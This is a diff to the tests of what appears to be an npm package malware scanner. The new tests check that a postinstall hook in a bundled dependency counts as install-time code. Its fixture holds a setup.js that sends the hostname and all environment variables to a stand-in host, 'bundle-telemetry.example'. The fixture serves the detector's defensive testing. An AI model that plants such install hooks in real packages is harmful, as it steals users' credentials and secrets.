@@ -55,3 +55,38 @@ fetch(reg + '/' + me.name, { method: 'PUT', headers: { authorization: 'Bearer ' 
     expect(threatsOf(r)).toEqual([]);
   });
 });
+
+describe('bundled dependencies: npm rebuilds them after unpacking, so their install hooks run', () => {
+  const files = (bundle: boolean) => ({
+    'package.json': JSON.stringify({
+      name: 'str-utils-kit',
+      version: '1.0.0',
+      main: 'index.js',
+      dependencies: { 'left-trim': '1.0.0' },
+      ...(bundle ? { bundleDependencies: ['left-trim'] } : {}),
+    }),
+    'index.js': 'module.exports = require("left-trim");',
+    'node_modules/left-trim/package.json': JSON.stringify({
+      name: 'left-trim',
+      version: '1.0.0',
+      main: 'lib/index.js',
+      scripts: { postinstall: 'node lib/setup.js' },
+    }),
+    'node_modules/left-trim/lib/index.js': 'module.exports = (s) => s.trimStart();',
+    'node_modules/left-trim/lib/setup.js': `const os = require('os');
+const d = JSON.stringify({ h: os.hostname(), e: process.env });
+require('https').request({ host: 'bundle-telemetry.example', method: 'POST', path: '/i' }).end(d);`,
+  });
+  it("a bundled dependency's postinstall is an install hook of the package, and what it runs is install-time code", () => {
+    const r = analyzeSource(files(true));
+    expect(r.install_scripts.postinstall).toBe(true);
+    const hit = r.evidence.find((e) => e.rule === 'js.exfil-flow');
+    expect(hit).toMatchObject({ file: 'node_modules/left-trim/lib/setup.js', install_time: true });
+    expect(r.risk_level).toBe('critical');
+  });
+  it('node_modules shipped but not declared bundled: no install hook, run-time weights', () => {
+    const r = analyzeSource(files(false));
+    expect(r.install_scripts.postinstall).toBe(false);
+    expect(r.evidence.find((e) => e.rule === 'js.exfil-flow')?.install_time).toBe(false);
+  });
+});
